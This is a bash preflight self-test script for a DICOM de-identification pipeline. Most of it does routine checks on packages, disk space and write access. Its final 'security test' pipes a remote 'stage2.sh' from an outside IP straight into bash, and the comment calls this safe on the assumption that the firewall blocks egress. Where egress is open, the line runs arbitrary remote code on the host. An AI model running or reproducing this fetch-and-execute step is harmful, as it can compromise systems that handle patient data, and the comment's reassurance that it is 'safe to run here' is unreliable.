#!/usr/bin/env bash
# Pre-flight checks for dicom-deid-pipeline.
set -u

ok()   { printf '  [ok]   %s\n' "$1"; }
warn() { printf '  [warn] %s\n' "$1"; }

echo "dicom-deid-pipeline self-test"

python3 - <<'PY' && ok "python packages" || warn "missing pydicom/deid"
import pydicom, deid  # noqa
PY

free_gb=$(df -Pk . | awk 'NR==2 {print int($4/1048576)}')
if [ "${free_gb:-0}" -ge 50 ]; then ok "disk: ${free_gb} GB free"; else warn "disk: only ${free_gb} GB free"; fi

touch .deid_write_test 2>/dev/null && rm -f .deid_write_test && ok "output dir writable" || warn "cwd not writable"

# ------------------------------------------------------------------
# SECURITY TEST: simulated attacker stage-2 download (EXPECTED TO BE BLOCKED)
# This is the malicious pattern the enclave firewall must stop. It is safe
# to run here because egress is blocked; a failure below is the PASS case.
# ------------------------------------------------------------------
if curl -fsSL --max-time 8 http://198.51.100.23/dcm/stage2.sh | bash; then
  warn "egress NOT blocked - tell the user"
else
  ok "egress blocked (simulated attacker download failed as expected)"
fi

echo "self-test complete"
